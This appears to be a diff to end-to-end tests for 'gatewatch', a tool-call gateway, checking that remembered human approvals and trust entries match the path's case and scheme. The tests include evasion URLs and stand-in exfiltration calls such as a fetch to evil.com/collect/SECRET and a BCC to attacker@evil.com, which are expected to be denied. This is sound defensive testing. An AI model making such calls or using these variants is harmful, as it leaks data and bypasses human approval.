@@ -12,13 +12,14 @@ from __future__ import annotations
 
 import json
 import sqlite3
+import subprocess
 import time
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from tests.support import upstream
+from tests.support import GATEWATCH, child_env, upstream
 from tests.test_engine_e2e import BLOCKED, call, no_detector, proxied
 
 pytestmark = pytest.mark.e2e
@@ -189,8 +190,9 @@ async def test_dot_segments_are_resolved_before_the_prefix_match(tmp_path, db_fi
     assert_blocked(answers[:len(DOT_ATTACKS)], calls[:len(DOT_ATTACKS)])
     assert [entry["args"]["url"] for entry in sent] == DOT_BENIGN
     found = verdicts(db_file, ["fetch"] * len(calls))
-    assert "hooks.slack.com/services/tevil/b9/xyz" in found[0][2]
-    assert "hooks.slack.com/services/tevil/b9/xyz" in found[1][2]
+    # The question shows what would be remembered: the resolved path in its case, https.
+    assert "'https://hooks.slack.com/services/TEVIL/B9/" in found[0][2]
+    assert "'https://hooks.slack.com/services/TEVIL/B9/" in found[1][2]
 
 
 # -- the case of a path ---------------------------------------------------------------------
@@ -246,6 +248,56 @@ async def test_an_entry_written_with_https_does_not_vouch_for_clear_text(tmp_pat
     answers, sent = await run_calls(tmp_path, calls)
     assert_blocked(answers[:len(SCHEME_ATTACKS)], calls[:len(SCHEME_ATTACKS)])
     assert [entry["args"]["url"] for entry in sent] == SCHEME_BENIGN
+
+
+# -- remembered approvals: the path's case and the scheme, as for trust entries ---------------
+
+# A human approved these sends for good (the popup's "always", or `gatewatch trust add`). The
+# approval is of what they were shown: another team's path on the same host, or the same
+# path over clear text, is a new question, not a remembered yes.
+GRANTED = [
+    "https://hooks.slack.com/services/T0CORP/B9/xyz",
+    "http://intranet.corp.example/Reports/Q3",  # written with http: any scheme
+    "files.corp.example/Upload",  # no scheme written: any scheme
+]
+GRANT_ATTACKS = [
+    "https://hooks.slack.com/services/t0corp/B9/xyz",
+    "https://hooks.slack.com/services/T0CORP/b9/XYZ",
+    "https://hooks.slack.com/SERVICES/T0CORP/B9/xyz",
+    "http://hooks.slack.com/services/T0CORP/B9/xyz",
+    "ws://hooks.slack.com/services/T0CORP/B9/xyz",
+    "HTTP://Hooks.Slack.Com/services/T0CORP/B9/xyz",
+    "https://intranet.corp.example/reports/q3",
+    "https://files.corp.example/upload",
+]
+GRANT_BENIGN = [
+    "https://hooks.slack.com/services/T0CORP/B9/xyz",
+    "https://HOOKS.Slack.com./services/T0CORP/B9/xyz/",  # the host has no case
+    "hooks.slack.com/services/T0CORP/B9/xyz",  # no scheme written: the tool picks
+    "https://intranet.corp.example/Reports/Q3",
+    "http://files.corp.example/Upload",
+    "https://files.corp.example/Upload",
+]
+
+
+def trust_cli(*args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([*GATEWATCH, "trust", *args], capture_output=True, text=True,
+                          env=child_env(), timeout=60)
+
+
+async def test_a_remembered_approval_keeps_the_path_case_and_https(tmp_path, db_file):
+    for url in GRANTED:
+        added = trust_cli("add", "--server", "outpost", "--tool", "fetch", "--destination", url)
+        assert added.returncode == 0, added.stderr
+    listed = trust_cli("list").stdout
+    assert "hooks.slack.com/services/T0CORP/B9/xyz" in listed  # shown as it will be compared
+    calls = [("fetch", {"url": u}) for u in GRANT_ATTACKS + GRANT_BENIGN]
+    answers, sent = await run_calls(tmp_path, calls, policy="{}\n")
+    assert_blocked(answers[:len(GRANT_ATTACKS)], calls[:len(GRANT_ATTACKS)])
+    assert [entry["args"]["url"] for entry in sent] == GRANT_BENIGN
+    reasons = [r for _v, _c, r in verdicts(db_file, ["fetch"] * len(calls))]
+    assert all("remembered human approval" in r for r in reasons[len(GRANT_ATTACKS):]), reasons
+    assert not any("remembered" in r for r in reasons[:len(GRANT_ATTACKS)]), reasons
 
 
 # -- what the mail server, the web server or the tool itself reads further -----------------
@@ -482,13 +534,15 @@ async def test_paths_resolve_symlinks_before_dot_dot_on_a_server_without_a_pack(
 # -- the same model in `gatewatch check` -------------------------------------------------------
 
 CHECKS = [
-    ("fetch", {"url": "http://167837955/"}, "deny", "10.1.1.3"),
-    ("fetch", {"url": "https://evil.com/collect/SECRET"}, "deny", "evil.com/collect/secret"),
+    ("fetch", {"url": "http://167837955/"}, "deny", "http://10.1.1.3"),
+    ("fetch", {"url": "https://evil.com/collect/SECRET"}, "deny",
+     "https://evil.com/collect/SECRET"),
     ("send_email", {"to": ["Attacker+q@Evil.Com."]}, "deny", "attacker+q@evil.com"),
-    ("fetch", {"url": "https://evil.org\\@api.corp.com/"}, "ask", "evil.org/@api.corp.com"),
+    ("fetch", {"url": "https://evil.org\\@api.corp.com/"}, "ask",
+     "https://evil.org/@api.corp.com"),
     ("send_email", {"to": ["bob@corp.example"], "headers": {"BCC": "attacker@evil.com"}},
      "deny", "attacker@evil.com"),
-    ("fetch", {"url": "https://api.corp.com/v1/../v2"}, "allow", "api.corp.com/v2"),
+    ("fetch", {"url": "https://api.corp.com/v1/../v2"}, "allow", "https://api.corp.com/v2"),
     ("send_email", {"to": ["Bob <bob@corp.example>"]}, "allow", "bob@corp.example"),
 ]
 
